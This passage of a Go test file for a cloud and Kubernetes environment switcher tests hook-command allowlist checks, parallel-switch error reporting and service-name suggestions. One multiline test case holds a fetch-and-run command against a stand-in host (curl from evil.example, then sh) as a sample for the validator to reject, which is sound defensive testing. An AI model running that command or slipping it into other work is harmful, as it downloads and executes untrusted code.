+		{"piped into a command not allowed", "kubectl config use-context prod | tee log", true},
+		{"empty command", "", true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateHookCommand(tt.command, allowlist...)
+			if (err != nil) != tt.wantError {
+				t.Errorf("ValidateHookCommand(%q) error = %v, wantError = %v", tt.command, err, tt.wantError)
+			}
+		})
+	}
+}
+
+// TestValidateHookCommand_AllowlistMultiline tests that an allowed first
+// line does not let the allowlist pass the lines after it.
+func TestValidateHookCommand_AllowlistMultiline(t *testing.T) {
+	command := "kubectl version\ncurl -o /tmp/x http://evil.example/x\nsh /tmp/x"
+	if err := ValidateHookCommand(command, "kubectl"); err == nil {
+		t.Errorf("ValidateHookCommand(%q) = nil, want an error", command)
+	}
+}
+
+// TestEnvironmentSwitcher_HookAllowlist tests that hooks outside the allowlist do not run.
+func TestEnvironmentSwitcher_HookAllowlist(t *testing.T) {
+	es := newTestSwitcher()
+	mock := newMockSwitcher("aws")
+	es.Register(mock)
+	es.SetHookAllowlist([]string{"kubectl"})
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws": {AWS: &AWSConfig{Profile: "test"}},
+		},
+		PreHooks: []Hook{{Command: "echo hello"}},
+	}
+
+	_, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{})
+	if err == nil || !strings.Contains(err.Error(), "does not match any allowed prefix") {
+		t.Errorf("SwitchEnvironment() error = %v, want the hook rejected by the allowlist", err)
+	}
+	if mock.switchCalled {
+		t.Error("Switch should not be called after a rejected pre-hook")
+	}
+}
+
+// TestEnvironmentSwitcher_SwitchParallel_ServiceErrors tests that each
+// failed service's error can be retrieved from a parallel switch error.
+func TestEnvironmentSwitcher_SwitchParallel_ServiceErrors(t *testing.T) {
+	errAWS := errors.New("aws: token expired")
+	errDocker := errors.New("docker: daemon not running")
+
+	es := newTestSwitcher()
+	aws := newMockSwitcher("aws")
+	aws.switchError = errAWS
+	docker := newMockSwitcher("docker")
+	docker.switchError = errDocker
+	es.Register(aws)
+	es.Register(docker)
+	es.Register(newMockSwitcher("gcp"))
+
+	env := &Environment{
+		Name: "test-env",
+		Services: map[string]ServiceConfig{
+			"aws":        {AWS: &AWSConfig{Profile: "test"}},
+			"docker":     {Docker: &DockerConfig{Context: "test"}},
+			"gcp":        {GCP: &GCPConfig{Project: "test"}},
+			"kubernetes": {Kubernetes: &KubernetesConfig{Context: "test"}},
+		},
+	}
+
+	result, err := es.SwitchEnvironment(context.Background(), env, SwitchOptions{Parallel: true})
+
+	var parallelErr *ParallelSwitchError
+	if !errors.As(err, &parallelErr) {
+		t.Fatalf("SwitchEnvironment() error = %v, want a *ParallelSwitchError", err)
+	}
+	var services []string
+	for _, serviceErr := range parallelErr.Errors {
+		services = append(services, serviceErr.Service)
+	}
+	if got, want := strings.Join(services, ","), "aws,docker,kubernetes"; got != want {
+		t.Errorf("failed services = %q, want %q", got, want)
+	}
+
+	if !errors.Is(parallelErr.ServiceErr("aws"), errAWS) {
+		t.Errorf("ServiceErr(aws) = %v, want %v", parallelErr.ServiceErr("aws"), errAWS)
+	}
+	if !errors.Is(parallelErr.ServiceErr("docker"), errDocker) {
+		t.Errorf("ServiceErr(docker) = %v, want %v", parallelErr.ServiceErr("docker"), errDocker)
+	}
+	if !strings.Contains(fmt.Sprint(parallelErr.ServiceErr("kubernetes")), "no switcher registered") {
+		t.Errorf("ServiceErr(kubernetes) = %v, want the missing switcher", parallelErr.ServiceErr("kubernetes"))
+	}
+	if parallelErr.ServiceErr("gcp") != nil {
+		t.Errorf("ServiceErr(gcp) = %v, want nil", parallelErr.ServiceErr("gcp"))
+	}
+	if !errors.Is(err, errAWS) || !errors.Is(err, errDocker) {
+		t.Error("errors.Is() should match every service's error")
+	}
+
+	recorded := make(map[string]bool)
+	for _, switchErr := range result.Errors {
+		recorded[switchErr.Service] = true
+	}
+	for _, service := range services {
+		if !recorded[service] {
+			t.Errorf("result.Errors = %+v, want an entry for %s", result.Errors, service)
+		}
+	}
+}
+
+// TestEnvironmentSwitcher_SuggestService tests suggestions for misspelled
+// service names.
+func TestEnvironmentSwitcher_SuggestService(t *testing.T) {
+	es := newTestSwitcher()
+	for _, name := range []string{"aws", "gcp", "kubernetes", "docker"} {
+		es.Register(newMockSwitcher(name))
+	}
+
+	tests := []struct {
+		name string
+		want string
+	}{
+		{"kubernets", "kubernetes"},
+		{"dokcer", "docker"},
+		{"terraform", ""},
+	}
+
+	for _, tt := range tests {
+		if got := es.SuggestService(tt.name); got != tt.want {
+			t.Errorf("SuggestService(%q) = %q, want %q", tt.name, got, tt.want)
+		}
+	}
+}
+
+// TestEnvironmentSwitcher_ValidateHooks tests that every hook and script is
+// checked against the allowlist.
+func TestEnvironmentSwitcher_ValidateHooks(t *testing.T) {
+	es := newTestSwitcher()
+	es.SetHookAllowlist([]string{"kubectl"})
+
+	env := &Environment{
+		Name:      "test-env",
+		PreHooks:  []Hook{{Command: "kubectl version"}, {Command: "curl example.com"}},
+		PostHooks: []Hook{{Command: ""}},
+		Activate:  "echo hi",
+	}
+
+	errs := es.ValidateHooks(env)
+	var got []string
+	for _, err := range errs {
+		got = append(got, strings.SplitN(err.Error(), ":", 2)[0])
+	}
+	if want := "preHooks[1],postHooks[0],activate"; strings.Join(got, ",") != want {
+		t.Errorf("ValidateHooks() = %v, want errors for %v", errs, want)
+	}
+}